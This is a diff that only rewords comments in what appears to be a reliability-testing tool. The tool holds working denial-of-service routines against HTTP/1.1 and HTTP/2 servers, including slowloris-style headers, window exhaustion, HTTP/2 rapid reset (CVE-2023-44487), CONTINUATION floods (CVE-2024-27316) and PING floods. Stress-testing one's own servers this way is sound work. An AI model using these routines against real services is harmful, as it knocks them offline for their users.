@@ -2,8 +2,8 @@
 
     python -m perf.reliability.attacker KIND HOST PORT SECONDS NUMBER [STREAMS]
 
-Prints what it did as JSON when it ends. `NUMBER` is the number of connections at a time, `STREAMS` that of streams on each. All bytes are
-written out here: a library would refuse to send most of them.
+Prints its counts as JSON at the end. `NUMBER`: concurrent connections; `STREAMS`: streams on each.
+All bytes are built here, because a library would refuse to send most of them.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 FRAME = 16384  # bytes of DATA in a frame
-PAUSE = 0.05  # seconds until a connection that was closed is opened again
+PAUSE = 0.05  # seconds before a closed connection is opened again
 GONE = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)
 
 counts: Counter[str] = Counter()
@@ -53,14 +53,17 @@ class Victim:
     async def connect(self) -> trio.SocketStream:
         """A new connection. Raises OSError."""
         stream = await trio.open_tcp_stream(self.host, self.port)
-        # Leave by a reset: an ordinary end stays behind the bytes that a closed window holds back, and the other side cannot see it.
+        # Close with a reset: a normal close waits behind the bytes that a closed window holds back,
+        # so the other side would not see it.
         stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
         counts["opened"] += 1
         return stream
 
 
 class Flow:
-    """What an HTTP/2 peer allows to send: windows, by stream and for the connection (RFC 9113 section 5.2)."""
+    """What an HTTP/2 peer allows to send: windows per stream and for the connection (RFC 9113
+    section 5.2).
+    """
 
     def __init__(self) -> None:
         self.initial = self.connection = 65535
@@ -82,7 +85,7 @@ class Flow:
         self.changed.set()
 
     async def read(self, stream: trio.SocketStream) -> None:
-        """Follow what the peer sends, until it ends the connection."""
+        """Process the peer's frames until it closes the connection."""
         buffer = b""
         try:
             while data := await stream.receive_some(65536):
@@ -113,7 +116,7 @@ class Flow:
 
 
 async def forever(victim: Victim, attack: Callable[[trio.SocketStream, Victim], Awaitable[None]]) -> None:
-    """Attack on one connection, and on a new one when that has ended."""
+    """Attack on one connection, and on a new one whenever it ends."""
     while True:
         try:
             async with await victim.connect() as stream:
@@ -130,28 +133,28 @@ async def until_closed(stream: trio.SocketStream) -> None:
     counts["closed"] += 1
 
 
-# The kinds...
+# The kinds of attack
 
 
 async def idle(stream: trio.SocketStream, _: Victim) -> None:
-    """Say nothing."""
+    """Send nothing."""
     await until_closed(stream)
 
 
 async def refused(stream: trio.SocketStream, _: Victim) -> None:
-    """Send a request, and keep the connection whatever the answer is."""
+    """Send a request, and keep the connection open whatever the response."""
     await stream.send_all(b"GET / HTTP/1.1\r\nHost: shop\r\n\r\n")
     await until_closed(stream)
 
 
 async def handshakes(stream: trio.SocketStream, _: Victim) -> None:
-    """Begin a TLS handshake and do not go on."""
+    """Start a TLS handshake and stop."""
     await stream.send_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40))
     await until_closed(stream)
 
 
 async def heads(stream: trio.SocketStream, _: Victim) -> None:
-    """A request's head, one byte a second."""
+    """Send a request's head, one byte per second."""
     text = b"GET / HTTP/1.1\r\nHost: shop\r\nX-Long: " + b"x" * 10_000
     for at in range(len(text)):
         await stream.send_all(text[at : at + 1])
@@ -159,7 +162,7 @@ async def heads(stream: trio.SocketStream, _: Victim) -> None:
 
 
 async def scrape(stream: trio.SocketStream, _: Victim) -> None:
-    """Ask for the metrics, again and again, on one connection."""
+    """Request the metrics repeatedly on one connection."""
     while True:
         await stream.send_all(b"GET /metrics HTTP/1.1\r\nHost: shop\r\n\r\n")
         buffer = b""
@@ -180,7 +183,7 @@ async def scrape(stream: trio.SocketStream, _: Victim) -> None:
 
 
 async def uploads(stream: trio.SocketStream, _: Victim) -> None:
-    """A body of 1 GiB to a server that does not read: as much of it as is taken."""
+    """Send a body of 1 GiB to a server that does not read: as much as is accepted."""
     await stream.send_all(b"POST / HTTP/1.1\r\nHost: shop\r\nContent-Length: 1073741824\r\n\r\n")
     piece = bytes(65536)
     while True:
@@ -189,7 +192,7 @@ async def uploads(stream: trio.SocketStream, _: Victim) -> None:
 
 
 async def windows(stream: trio.SocketStream, victim: Victim) -> None:
-    """Bodies on many streams to a server that does not read: as much of each as the windows allow."""
+    """Send bodies on many streams to a server that does not read: as much as the windows allow."""
     flow = Flow()
     block = head("POST")
     numbers = [2 * each + 1 for each in range(victim.streams)]
@@ -213,7 +216,7 @@ async def windows(stream: trio.SocketStream, victim: Victim) -> None:
 
 
 async def headers(stream: trio.SocketStream, victim: Victim) -> None:
-    """Many requests in one write; again when they are answered or after a second."""
+    """Send many requests in one write; repeat after the answers or after a second."""
     flow = Flow()
     block = head("GET")
     first = 1
@@ -230,7 +233,7 @@ async def headers(stream: trio.SocketStream, victim: Victim) -> None:
 
 
 async def resets(stream: trio.SocketStream, victim: Victim) -> None:
-    """Requests that are taken back at once (CVE-2023-44487)."""
+    """Send requests and reset them at once (CVE-2023-44487)."""
     flow = Flow()
     block = head("GET")
     cancel = struct.pack(">I", 8)
@@ -249,7 +252,7 @@ async def resets(stream: trio.SocketStream, victim: Victim) -> None:
 
 
 async def continuation(stream: trio.SocketStream, _: Victim) -> None:
-    """A head that never ends (CVE-2024-27316)."""
+    """Send a head that never ends (CVE-2024-27316)."""
     await stream.send_all(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, head("GET")))
     piece = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 200)
     while True:
@@ -258,7 +261,7 @@ async def continuation(stream: trio.SocketStream, _: Victim) -> None:
 
 
 async def pings(stream: trio.SocketStream, _: Victim) -> None:
-    """PING frames, as many as are taken; the answers are not read."""
+    """Send PING frames, as many as are accepted; do not read the answers."""
     await stream.send_all(PREFACE + frame(SETTINGS, 0, 0))
     piece = frame(PING, 0, 0, bytes(8)) * 100
     while True:
@@ -267,7 +270,7 @@ async def pings(stream: trio.SocketStream, _: Victim) -> None:
 
 
 async def churn(victim: Victim, number: int) -> None:
-    """Many connections that are all closed at once; again a second later."""
+    """Open many connections and close all at once; repeat a second later."""
     while True:
         streams: list[trio.SocketStream] = []
         async with trio.open_nursery() as nursery:
@@ -308,7 +311,7 @@ KINDS = (idle, refused, handshakes, heads, scrape, uploads, windows, headers, re
 
 
 async def main(*arguments: str) -> None:
-    """Attack for so many seconds, and print what was done."""
+    """Attack for the given time, and print what was done."""
     kind, host, port, seconds, number, streams = (*arguments, "1", "1")[:6]
     victim = Victim(host, int(port), int(streams))
     with trio.move_on_after(float(seconds)):
